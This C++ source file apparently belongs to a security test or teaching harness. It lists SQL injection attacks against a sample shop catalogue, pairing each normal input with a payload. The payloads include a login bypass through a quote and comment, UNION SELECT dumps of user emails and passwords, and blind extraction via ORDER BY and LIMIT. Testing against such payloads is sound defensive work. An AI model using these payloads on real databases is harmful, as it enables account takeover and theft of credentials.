#include "twin/attacks.hpp"

namespace security::twin {

std::vector<Attack> const& attacks()
{
    static std::vector<Attack> const all{
        {"a text in WHERE", "ada@example.com", "ada@example.com' --",
         [](Catalogue& shop, auto const& text) { return shop.log_in(text, "guess"); }},
        {"a number in WHERE", "1", "0 UNION SELECT email, password FROM users",
         [](Catalogue& shop, auto const& text) { return shop.product(text); }},
        {"LIKE", "Lamp", "?' UNION SELECT email, password FROM users --",
         [](Catalogue& shop, auto const& text) { return shop.search(text); }},
        {"ORDER BY", "price_cents",
         "(SELECT CASE WHEN password LIKE 'e%' THEN -products.id ELSE products.id END"
         " FROM users)",
         [](Catalogue& shop, auto const& text) { return shop.sorted(text); }},
        {"LIMIT", "2", "(SELECT count(*) FROM users WHERE password LIKE 'e%')",
         [](Catalogue& shop, auto const& text) { return shop.first(text); }},
        {"IN", "1,2", "0) UNION SELECT email, password FROM users --",
         [](Catalogue& shop, auto const& text) { return shop.chosen(text); }},
        {"a name of a column", "name", "password FROM users --",
         [](Catalogue& shop, auto const& text) { return shop.column(text); }},
        {"VALUES", "Nice", "' || (SELECT password FROM users) || '",
         [](Catalogue& shop, auto const& text) { return shop.add_review(text); }}};
    return all;
}

}  // namespace security::twin
